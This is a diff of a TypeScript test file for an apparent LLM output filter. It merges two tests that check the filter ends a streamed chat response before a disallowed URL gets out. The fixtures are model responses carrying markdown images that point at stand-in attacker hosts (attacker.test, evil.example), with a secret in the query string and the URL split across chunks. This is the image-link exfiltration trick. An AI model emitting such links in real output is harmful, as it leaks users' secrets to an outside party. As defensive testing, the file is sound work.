@@ -150,23 +150,19 @@ describe('output.links: block', () => {
     assert.equal((r.json as { choices: Array<{ message: { content: string } }> }).choices[0]?.message.content, 'See [the docs](https://docs.example.com/a) and ![x](/local.png).');
   });
 
-  test('a stream is ended by the error event before any piece of the disallowed URL is sent', async () => {
-    b.sim.options.responseChunks = ['Here is ', 'the chart: ![c](htt', 'ps://attack', `er.test/?q=${SECRET}`, ') bye'];
-    const st = await rawStream(b);
-    assert.equal(st.lastError, 'MG_OUTPUT_BLOCKED');
-    assert.equal(st.done, false);
-    assert.ok(!st.raw.includes('attack') && !st.raw.includes(SECRET));
-    assert.equal(st.text, 'Here is the chart: ');
-    b.sim.options.responseChunks = [];
-  });
-
-  test('a protocol-relative image split across events ends the stream before any piece of its URL is sent', async () => {
-    b.sim.options.responseChunks = ['Here is ', 'the chart: ![x](/', '/evil.exa', `mple/?q=${SECRET}`, ') bye'];
-    const st = await rawStream(b);
-    assert.equal(st.lastError, 'MG_OUTPUT_BLOCKED');
-    assert.equal(st.done, false);
-    assert.ok(!st.raw.includes('evil') && !st.raw.includes(SECRET));
-    assert.equal(st.text, 'Here is the chart: ');
-    b.sim.options.responseChunks = [];
-  });
+  // With a scheme, and protocol-relative (no scheme at all): the same outcome.
+  for (const [name, chunks, host] of [
+    ['a stream is ended by the error event before any piece of the disallowed URL is sent', ['Here is ', 'the chart: ![c](htt', 'ps://attack', `er.test/?q=${SECRET}`, ') bye'], 'attack'],
+    ['a protocol-relative image split across events ends the stream before any piece of its URL is sent', ['Here is ', 'the chart: ![x](/', '/evil.exa', `mple/?q=${SECRET}`, ') bye'], 'evil'],
+  ] as const) {
+    test(name, async () => {
+      b.sim.options.responseChunks = [...chunks];
+      const st = await rawStream(b);
+      assert.equal(st.lastError, 'MG_OUTPUT_BLOCKED');
+      assert.equal(st.done, false);
+      assert.ok(!st.raw.includes(host) && !st.raw.includes(SECRET));
+      assert.equal(st.text, 'Here is the chart: ');
+      b.sim.options.responseChunks = [];
+    });
+  }
 });
